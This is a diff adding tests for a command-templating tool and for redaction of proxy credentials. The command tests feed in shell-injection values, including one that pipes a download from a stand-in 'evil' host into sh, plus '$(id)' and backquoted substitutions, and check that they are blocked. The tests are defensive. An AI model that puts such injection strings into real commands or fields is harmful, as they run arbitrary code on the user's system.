@@ -98,6 +98,29 @@ describe('the effect driver', () => {
 		});
 	});
 
+	test('what a check answers or fails with is redacted before it becomes a result, a fact or a saved step', async () => {
+		const password = 'Zq4vT9mWx2LpR7kN';
+		const proxy = `http://alice:${password}@proxy.corp.example:3128`;
+		const saved: Session[] = [];
+		let calls = 0;
+		const services: EngineServices = {
+			...createScriptedServices({}),
+			runCheck: async id => {
+				if (calls++ === 0) throw new Error(`tunneling socket could not be established (proxy ${proxy})`);
+				return {id, status: 'fail', title: id, detail: `Could not reach ARM through ${proxy}.`, facts: {proxy}};
+			},
+			saveSession: session => void saved.push(session),
+		};
+		const store = createSessionStore({id: 'x', entry: 'health'}, {tree, services, timeoutMs: 1000});
+		const session = await until(store, current => current.results['health-cli'] !== undefined);
+		expect(session.results['health-cli']?.detail).toContain('(proxy http://alice:[redacted]@proxy.corp.example:3128)');
+		store.dispatch({type: 'continue'});
+		const next = await until(store, current => Object.keys(current.results).length > 1);
+		expect(JSON.stringify(next)).not.toContain(password);
+		expect(JSON.stringify(saved)).not.toContain(password);
+		expect(JSON.stringify(next)).toContain('alice:[redacted]@proxy.corp.example:3128');
+	});
+
 	test('going back cancels the check in flight (its signal aborts)', async () => {
 		let signal: AbortSignal | undefined;
 		const services: EngineServices = {
@@ -152,4 +175,16 @@ test('a command takes a fact only when it is shell-safe; anything else shows the
 	expect(fillCommand('az account set --subscription {subscriptionId}', {subscriptionId: '$(id)'})).toBe(
 		'az account set --subscription <subscription-id>',
 	);
+});
+
+test('inside double quotes a fact may hold spaces (a role name), never a quote, $ or a backquote', () => {
+	expect(
+		fillCommand('az role assignment create --role "{role}" --scope {roleScope}', {
+			role: 'Storage Blob Data Reader',
+			roleScope: '/subscriptions/s',
+		}),
+	).toBe('az role assignment create --role "Storage Blob Data Reader" --scope /subscriptions/s');
+	expect(fillCommand('--role {role}', {role: 'Storage Blob Data Reader'})).toBe('--role <role>');
+	for (const role of ['Reader" && curl evil | sh "', 'Reader $(id)', 'Reader `id`', 'Reader\\x'])
+		expect(fillCommand('--role "{role}"', {role})).toBe('--role "<role>"');
 });
